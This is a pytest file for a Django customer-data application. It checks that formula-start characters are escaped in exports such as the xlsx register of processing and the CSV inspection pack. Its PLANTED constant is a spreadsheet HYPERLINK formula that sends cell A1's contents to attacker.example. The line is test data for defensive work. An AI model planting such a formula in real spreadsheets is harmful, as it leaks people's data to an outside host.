"""No export hands a spreadsheet a formula to run (issue 31, finding 6): the register of
processing (xlsx), the inspection pack's CSVs and the customers' CSV export write what
staff and customers typed as text, whatever it begins with."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from customers.audit.services import access_log
from customers.consents.models import Purpose
from customers.core.spreadsheet import spreadsheet_safe

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://attacker.example/?"&A1,"Bấm vào đây")'


def test_one_function_keeps_every_formula_start_as_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("Nguyễn Văn A") == "Nguyễn Văn A"
    assert spreadsheet_safe(42) == 42


@pytest.mark.slow
def test_the_register_of_processing_writes_a_planted_formula_as_text(live_data, tmp_path):
    Purpose.objects.filter(pk=live_data["email_purpose"].pk).update(name_vi=PLANTED)
    out = tmp_path / "ropa.xlsx"
    call_command("dossier", "ropa", "-o", str(out), stdout=io.StringIO())
    cells = [
        cell
        for sheet in load_workbook(out)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the planted purpose is in the register"
    assert all(cell.data_type == "s" and cell.value.startswith("'=") for cell in cells)


@pytest.mark.slow
def test_the_inspection_packs_csvs_write_a_planted_reason_as_text(live_data, tmp_path):
    access_log(
        actor="system:test", action="reveal", customers=[1], fields=["email"], reason=PLANTED
    )
    out = tmp_path / "pack.zip"
    call_command("dossier", "inspection", "-o", str(out), stdout=io.StringIO())
    with zipfile.ZipFile(out) as pack:
        for name in (n for n in pack.namelist() if n.endswith(".csv")):
            rows = csv.reader(io.StringIO(pack.read(name).decode("utf-8-sig")))
            for row in rows:
                for value in row:
                    assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
        extract = pack.read("nhat_ky_truy_cap_trich.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in extract
